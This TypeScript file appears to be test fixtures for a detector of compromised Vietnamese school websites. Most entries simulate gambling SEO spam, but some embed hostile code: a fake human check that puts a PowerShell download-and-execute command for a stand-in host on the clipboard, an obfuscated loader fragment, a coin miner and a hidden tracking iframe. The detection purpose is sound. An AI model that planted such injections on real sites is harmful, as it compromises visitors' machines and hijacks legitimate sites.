import { atEnd, type CorpusSite, inHead, insertBefore, serve, site } from '../corpus-site.ts';
import { article, page, schoolPages } from '../school-pages.ts';

const doorway = (title: string, words: string, target: string): string =>
  `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>${title}</title><meta name="description" content="${words}"><meta name="keywords" content="${words}"></head><body><h1>${title}</h1>${Array.from({ length: 12 }, (_, n) => `<h2>${title} phần ${String(n + 1)}</h2><p>${words}. Học sinh, giáo viên, nhà trường, tuyển sinh, học tập.</p>`).join('')}<a href="${target}">Vào chơi ngay</a></body></html>`;

/** Whole pages that were added or replaced, and content changed in the open. */
export const sites: readonly CorpusSite[] = [
  {
    id: 'doorway-folder-in-sitemap',
    label: 'infected',
    about: 'a folder of doorway pages that nothing but the sitemap names',
    respond: serve({
      ...schoolPages('joomla', 'Trường THPT Cộng Hiền Mới'),
      '/sitemap.xml': {
        headers: { 'content-type': 'application/xml' },
        body: `<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${['gioi-thieu', 'tin-tuc', 'lien-he', 'blog/no-hu-doi-thuong', 'blog/ban-ca-online', 'blog/da-ga-thomo', 'blog/xoc-dia-truc-tuyen'].map((path) => `<url><loc>http://SELF/${path}</loc></url>`).join('')}</urlset>`,
      },
      '/blog/no-hu-doi-thuong': doorway(
        'Nổ hũ đổi thưởng uy tín nhất',
        'nổ hũ, quay hũ, game slot đổi tiền mặt',
        'https://nohu52.boo',
      ),
      '/blog/ban-ca-online': doorway(
        'Bắn cá online đổi tiền thật',
        'bắn cá đổi thưởng, bắn cá ăn xu',
        'https://banca30.lol',
      ),
      '/blog/da-ga-thomo': doorway(
        'Đá gà trực tiếp Thomo hôm nay',
        'đá gà cựa dao, cược đá gà',
        'https://daga88.surf',
      ),
      '/blog/xoc-dia-truc-tuyen': doorway(
        'Xóc đĩa trực tuyến',
        'xóc đĩa đổi thưởng, tài xỉu',
        'https://xocdia.uno',
      ),
    }),
  },
  site(
    'infected',
    'title-only',
    'only the title of the home page was changed',
    schoolPages('wordpress', 'Trường THPT Tiên Lãng Mới', [], (html) =>
      html.replace(
        /<title>[^<]*<\/title>/u,
        '<title>KUBET - Trang chủ KU Casino | Link Kubet không bị chặn</title>',
      ),
    ),
  ),
  site(
    'infected',
    'description-only',
    'only description, keywords and Open Graph entries were changed',
    schoolPages('nukeviet', 'Trường THCS Tràng Cát Mới', [], (html) =>
      html
        .replace(
          /<meta name="description"[^>]*>/u,
          '<meta name="description" content="Nhà cái 8KBET tặng ngay 100k cho thành viên mới, cá cược thể thao, xổ số, bắn cá"><meta name="keywords" content="8kbet, nhà cái, cá cược">',
        )
        .replace(
          /<meta property="og:title"[^>]*>/u,
          '<meta property="og:title" content="8KBET - Nhà cái số 1 châu Á">',
        ),
    ),
  ),
  site(
    'infected',
    'structured-data-only',
    'JSON-LD names a betting house as the owner',
    schoolPages('wordpress', 'Trường THPT Vĩnh Bảo Mới', [], (html) =>
      inHead(
        html,
        '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization","name":"SHBET Casino","url":"https://shbet.garden","description":"Nhà cái SHBET cá cược trực tuyến"}</script><meta property="og:site_name" content="SHBET">',
      ),
    ),
  ),
  site('infected', 'japanese-home', 'Japanese shop words in titles and an article folder', {
    ...schoolPages('wordpress', 'Trường THPT Thủy Nguyên Mới', [], (html) =>
      atEnd(
        html.replace(/<title>[^<]*<\/title>/u, '<title>ブランド財布 激安通販 新作 送料無料</title>'),
        '<div><a href="/item/1029.html">スーパーコピー 時計 専門店</a></div>',
      ),
    ),
    '/item/1029.html':
      '<html lang="ja"><head><title>スーパーコピー 時計 専門店 N級品</title></head><body><h1>ルイヴィトン 財布 コピー 激安</h1><p>当店は最高級ブランドコピーの専門店です。送料無料、全国配送。</p></body></html>',
  }),
  site(
    'infected',
    'canonical-to-foreign',
    'canonical and AMP addresses of all pages point to a betting site',
    schoolPages('joomla', 'Trường THPT An Lão Mới', [], (html) =>
      inHead(
        html,
        '<link rel="canonical" href="https://st666.reviews/"><link rel="amphtml" href="https://amp.st666.reviews/">',
      ),
    ),
  ),
  site('infected', 'defaced-short', 'the home page is a defacement', {
    '/': '<html><head><title>Hacked By An0n_Ghost</title></head><body bgcolor="black" text="lime"><center><h1>HACKED BY An0n_Ghost</h1><p>your security is low, admin. Greetz to all crew</p><img src="skull.gif"></center></body></html>',
  }),
  site(
    'infected',
    'defaced-partly',
    'a defacement mark in the title and the first heading of a site that still works',
    schoolPages('dotnetnuke', 'Trường THCS Lập Lễ Mới', [], (html) =>
      insertBefore(
        html.replace(/<title>[^<]*<\/title>/u, '<title>Pwned by Team_Zero</title>'),
        '<div class="top">',
        '<h1>Site defaced by Team_Zero</h1>',
      ),
    ),
  ),
  site(
    'infected',
    'homoglyphs',
    'betting words with look-alike letters, dots and zero-width characters',
    schoolPages('wordpress', 'Trường THPT Toàn Thắng Mới', [], (html) =>
      atEnd(
        html,
        '<div><h3>N.h.à c.á.i u.y t.í.n</h3><p>Ѕоi kèо bónɡ đá, tài x\u200bỉu о\u200bnline, cá cư\u200bợc thể thao, nổ h\u200bũ, nạp rút 24/7</p><a href="https://tinyurl.example.org/x9">Đăng ký</a></div>',
      ),
    ),
  ),
  site(
    'infected',
    'no-accents',
    'betting words without accents in a block of text',
    schoolPages('hand-made', 'Trường Tiểu học Nam Hải Mới', [], (html) =>
      atEnd(
        html,
        '<p>nha cai uy tin nhat 2026, ca cuoc bong da truc tuyen, danh bai doi thuong, tai xiu online, dang ky nhan ngay 200k, keo nha cai, xoc dia doi thuong</p>',
      ),
    ),
  ),
  site('infected', 'comment-spam', 'comments below an article with betting links', {
    ...schoolPages('wordpress', 'Trường THPT Hàng Hải Mới'),
    '/tin-tuc/ngay-hoi-doc-sach': page('wordpress', {
      school: 'Trường THPT Hàng Hải Mới',
      title: 'Ngày hội đọc sách',
      main: `${article({ title: 'Ngày hội đọc sách', paragraphs: ['Thư viện trưng bày sách mới.'] })}<ol class="commentlist">${['<a href="https://vnloto.fun" rel="nofollow ugc">nhà cái VNLOTO</a> bài viết rất hay', '<a href="https://zbet.cab" rel="nofollow ugc">Zbet</a> tặng 199k khi đăng ký', '<a href="https://sodo66.day" rel="nofollow">SODO66 casino</a> uy tín hàng đầu'].map((text) => `<li class="comment">${text}</li>`).join('')}</ol>`,
    }),
  }),
  site('infected', 'question-board-spam', 'the question-and-answer page is full of betting posts', {
    ...schoolPages('nukeviet', 'Trường THCS Hoàng Diệu Biển', [], (html) =>
      insertBefore(html, '<footer', '<a href="/hoi-dap">Hỏi đáp</a>'),
    ),
    '/hoi-dap': page('nukeviet', {
      school: 'Trường THCS Hoàng Diệu Biển',
      title: 'Hỏi đáp',
      main: '<h1>Hỏi đáp</h1><div class="q"><b>ThanhVN</b>: Sảnh game 58WIN nạp 1 tặng 1, link vào 58win.tax không chặn, đánh bài, bắn cá, nổ hũ</div><div class="q"><b>Keo88</b>: Kèo thơm hôm nay, chốt số lô đề bạch thủ, inbox Telegram @chotlo88</div><div class="q"><b>An</b>: Thưa cô khi nào nộp hồ sơ ạ?</div>',
    }),
  }),
  site(
    'infected',
    'clickfix',
    'a false check for humans that asks to paste a command',
    schoolPages('wordpress', 'Trường THPT Lê Hồng Phong Biển', [], (html) =>
      atEnd(
        html,
        '<div id="cf-check" style="position:fixed;inset:0;background:#fff"><h2>Xác minh bạn là con người</h2><ol><li>Nhấn phím Windows + R</li><li>Nhấn Ctrl + V</li><li>Nhấn Enter</li></ol></div><script>navigator.clipboard.writeText("powershell -w hidden -c iwr https://cdn-verify.example.net/a.ps1 | iex")</script>',
      ),
    ),
  ),
  site(
    'infected',
    'ndsw-loader',
    'a known loader at the end of a script',
    schoolPages('wordpress', 'Trường THPT Nguyễn Trãi Biển', [], (html) =>
      atEnd(
        html,
        "<script>;if(ndsw===undefined){(function(n,t){var r={I:175,h:176,H:154};var H=a0b,c=n();while(!![]){try{var f=-parseInt(H(r.I))/1;if(f===t)break;else c['push'](c['shift']());}catch(v){c['push'](c['shift']());}}}(a0a,0x5c1a2));var ndsw=true,HttpClient=function(){this['get']=function(n,t){var e=new XMLHttpRequest();e.open('GET',n,!![]);e.send(null);}};}</script>",
      ),
    ),
  ),
  site(
    'infected',
    'miner',
    'a coin miner in the page',
    schoolPages('joomla', 'Trường THCS Quán Toan Mới', [], (html) =>
      atEnd(
        html,
        '<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous("SITEKEY");miner.start();</script>',
      ),
    ),
  ),
  site(
    'infected',
    'taken-over-cdn',
    'scripts from a content network that changed hands, and a tiny foreign frame',
    schoolPages('dotnetnuke', 'Trường Tiểu học Đông Hải Mới', [], (html) =>
      inHead(
        atEnd(
          html,
          '<iframe src="https://stat-count.example.ru/in.php" width="1" height="1" style="border:0"></iframe>',
        ),
        '<script src="https://cdn.polyfill.io/v3/polyfill.min.js"></script>',
      ),
    ),
  ),
  site('infected', 'taken-over-domain', 'an old domain of a school that now shows betting throughout', {
    '/': doorway(
      'Xổ số miền Bắc - Soi cầu 247 - Dự đoán lô đề chính xác',
      'soi cầu bạch thủ lô, dàn đề, chốt số, cầu lô, lô xiên',
      'https://soicau247.rip',
    ),
    '/gioi-thieu': doorway(
      'Về chúng tôi: nhà cái uy tín',
      'cá cược, casino, thể thao',
      'https://soicau247.rip',
    ),
  }),
  site(
    'infected',
    'hidden-article-in-archive',
    'a guest article praises a betting house in the words of a school',
    schoolPages('wordpress', 'Trường THPT Phan Đăng Lưu Mới', [
      {
        slug: 'giai-tri-sau-gio-hoc',
        title: 'Giải trí sau giờ học cùng cổng game Rikvip',
        paragraphs: [
          'Sau những giờ học căng thẳng, học sinh và phụ huynh có thể thử vận may với cổng game bài Rikvip, nơi có tài xỉu, mậu binh, tiến lên đổi thưởng.',
          'Chỉ cần đăng ký tài khoản, nạp tiền qua ngân hàng là nhận ngay tiền thưởng 50%.',
        ],
      },
    ]),
  ),
  site(
    'infected',
    'links-to-apk',
    'an advertising bar offers a betting app for download',
    schoolPages('shared-portal', 'Trường Mầm non Hoa Phượng Biển', [], (html) =>
      insertBefore(
        html,
        '<div class="noidung">',
        '<div class="top-bar"><a href="https://tai-app-choi.cc/app/hitclub.apk">📲 Tải HitClub – tặng 100K</a></div>',
      ),
    ),
  ),
  site('infected', 'thai-and-chinese', 'Thai and Chinese gambling text in pages listed in the feed', {
    ...schoolPages('wordpress', 'Trường THPT Hải An Mới'),
    '/feed': {
      headers: { 'content-type': 'application/rss+xml' },
      body: '<?xml version="1.0"?><rss version="2.0"><channel><title>Tin</title><item><title>สล็อตเว็บตรง แตกง่าย</title><link>http://SELF/2026/slot-wep-trng</link></item><item><title>百家樂 線上娛樂城</title><link>http://SELF/2026/bjl</link></item></channel></rss>',
    },
    '/2026/slot-wep-trng':
      '<html lang="th"><head><title>สล็อตเว็บตรง แตกง่าย PG SLOT</title></head><body><h1>สล็อตเว็บตรง</h1><p>คาสิโนออนไลน์ บาคาร่า ฝากถอนออโต้</p></body></html>',
    '/2026/bjl':
      '<html lang="zh"><head><title>百家樂 線上娛樂城 體育投注</title></head><body><h1>線上娛樂城</h1><p>百家樂 老虎機 體育博彩</p></body></html>',
  }),
];
